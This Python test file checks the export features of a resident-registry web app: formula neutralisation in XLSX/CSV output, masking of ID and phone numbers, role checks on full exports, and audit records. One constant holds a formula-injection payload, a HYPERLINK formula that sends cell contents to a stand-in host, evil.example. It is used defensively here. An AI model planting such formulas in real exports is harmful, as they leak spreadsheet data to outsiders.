"""Exports: masked by default, unmasked only with the right and a reason, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from gongzhi.core import exports
from gongzhi.core.models import AuditRecord
from gongzhi.core.roles import Role
from tests.conftest import make_user
from tests.people.test_residents import add, household_in, keeper, next_id

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tplain", "'\tplain"),
        (" =1+1", "' =1+1"),  # some programs trim spaces before reading a formula
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\u3000-1", "'\u3000-1"),
        ("\x01=1+1", "'\x01=1+1"),
        ("a=1", "a=1"),
        (" 张三", " 张三"),
        ("张三", "张三"),
        ("1栋 502", "1栋 502"),
        ("", ""),
        (None, ""),
        (42, 42),
        (-5, -5),
        (dt.date(2020, 1, 2), dt.date(2020, 1, 2)),
    ],
)
def test_safe_cell(value, expected):
    assert exports.safe_cell(value) == expected


def test_write_xlsx_neutralises_formulas():
    data = exports.write_xlsx([[EVIL, "+1", 3, dt.date(2020, 1, 2)]], ["名字", "=B", "n", "d"])
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("名字", "'=B", "n", "d")
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "'+1" and rows[1][2] == 3
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_write_xlsx_removing_control_characters_cannot_uncover_a_formula():
    """openpyxl cannot store control characters, so they are removed: before the formula
    check, else "\x01=1+1" became the formula =1+1."""
    data = exports.write_xlsx([["\x01=1+1", "\x02@x", " -2"]], ["a", "b", "c"])
    sheet = load_workbook(io.BytesIO(data)).active
    row = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in row] == ["'=1+1", "'@x", "' -2"]
    assert all(c.data_type == "s" for c in row)


def test_write_csv_neutralises_every_owasp_lead():
    leads = ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1"]
    data = exports.write_csv([leads], ["a"] * len(leads))
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert row == ["'" + v for v in leads]


def test_write_csv_neutralises_formulas_and_has_a_bom():
    data = exports.write_csv([[EVIL, "@x"]], ["a", "b"])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b"], ["'" + EVIL, "'@x"]]


@pytest.fixture
def registry(world):
    actor = keeper(world)
    number = next_id(dt.date(1938, 2, 3))
    evil = add(
        actor,
        household_in(world.grid_a1_1),
        EVIL,
        id_number=number,
        phone="13811110000",
        tags=["living_alone"],
    )
    other = add(actor, household_in(world.grid_a1_2), "邻格人", phone="13822220000")
    return {"actor": actor, "evil": evil, "number": number, "other": other}


def _rows(response) -> list[tuple]:
    assert response.status_code == 200, response.content[:500]
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def test_masked_export_of_the_list(registry, world, client):
    client.force_login(make_user(Role.GRID_WORKER, world.grid_a1_1))
    res = client.get("/people/export/")
    rows = _rows(res)
    assert res["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert "no-store" in res["Cache-Control"]
    flat = [str(c) for row in rows for c in row]
    assert "'" + EVIL in flat  # the formula is text
    assert registry["evil"].id_masked in flat and "138****0000" in flat
    assert registry["number"] not in " ".join(flat) and "13811110000" not in " ".join(flat)
    assert "邻格人" not in flat  # another grid
    record = AuditRecord.objects.get(action="resident.export")
    assert record.changes == {"filter": {}, "count": 1, "full": False}
    assert record.reason == ""


def test_export_follows_the_filters_and_records_them(registry, client):
    client.force_login(registry["actor"])
    # A whole number reaches the export only as the search's token, never in the URL …
    listed = client.post("/people/", {"tag": "living_alone", "q": "13811110000"})["Location"]
    assert "13811110000" not in listed and "qt=" in listed
    rows = _rows(client.get("/people/export/?" + listed.split("?", 1)[1]))
    assert len(rows) == 2
    record = AuditRecord.objects.get(action="resident.export")
    assert record.changes["filter"] == {"q": "138****0000", "tag": ["living_alone"]}
    assert record.changes["count"] == 1
    assert "13811110000" not in str(record.changes)
    # … and a whole number in the export's own query string is refused, nothing exported.
    refused = client.get("/people/export/?tag=living_alone&q=13811110000")
    assert refused.status_code == 302 and refused["Location"] == "/people/"
    assert AuditRecord.objects.filter(action="resident.export").count() == 1


def test_csv_export(registry, client):
    client.force_login(registry["actor"])
    res = client.get("/people/export/?format=csv")
    assert res["Content-Type"].startswith("text/csv")
    text = res.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in rows if r[0].startswith("'=")] == ["'" + EVIL]
    assert registry["number"] not in text and "13811110000" not in text


def test_full_export_needs_the_right_and_a_reason(registry, world, client):
    worker = make_user(Role.COMMUNITY_WORKER, world.community_a1)
    client.force_login(worker)
    assert client.get("/people/export/full/").status_code == 403
    assert client.post("/people/export/full/", {"reason": "上级检查需要"}).status_code == 403
    assert not AuditRecord.objects.filter(action="resident.export").exists()

    client.force_login(registry["actor"])  # community secretary
    assert client.get("/people/export/full/?tag=living_alone").status_code == 200
    short = client.post("/people/export/full/?tag=living_alone", {"reason": "查"})
    assert short.status_code == 400
    assert not AuditRecord.objects.filter(action="resident.export").exists()
    res = client.post("/people/export/full/?tag=living_alone", {"reason": "民政部门核对高龄补贴"})
    flat = " ".join(str(c) for row in _rows(res) for c in row)
    assert registry["number"] in flat and "13811110000" in flat
    assert "'" + EVIL in flat
    record = AuditRecord.objects.get(action="resident.export")
    assert record.changes == {"filter": {"tag": ["living_alone"]}, "count": 1, "full": True}
    assert record.reason == "民政部门核对高龄补贴"
    assert registry["number"] not in str(record.changes)


def test_building_head_cannot_export(registry, client):
    head = make_user(Role.BUILDING_HEAD, registry["evil"].household.building)
    client.force_login(head)
    assert client.get("/people/").status_code == 200
    assert client.get("/people/export/").status_code == 403
    assert 'data-testid="export-link"' not in client.get("/people/").content.decode()


def test_my_lists_counts_and_export(registry, world, client):
    grid_worker = make_user(Role.GRID_WORKER, world.grid_a1_1)
    add(
        grid_worker,
        household_in(world.grid_a1_1, 1),
        "六十多",
        birth=dt.date(1960, 1, 1),
        tags=["low_income"],
    )
    client.force_login(grid_worker)
    body = client.get("/people/lists/").content.decode()
    assert 'data-testid="count-elderly_80_alone">1<' in body
    assert 'data-testid="count-elderly_60">2<' in body
    assert 'data-testid="count-low_income">1<' in body
    assert 'data-testid="count-disabled">0<' in body
    rows = _rows(client.get("/people/export/?list=elderly_80_alone"))
    assert [r[0] for r in rows[1:]] == ["'" + EVIL]
    record = AuditRecord.objects.get(action="resident.export")
    assert record.changes["filter"] == {
        "age": "80",
        "tag": ["living_alone"],
        "list": "elderly_80_alone",
    }
    assert client.get("/people/export/?list=nonsense").status_code == 404
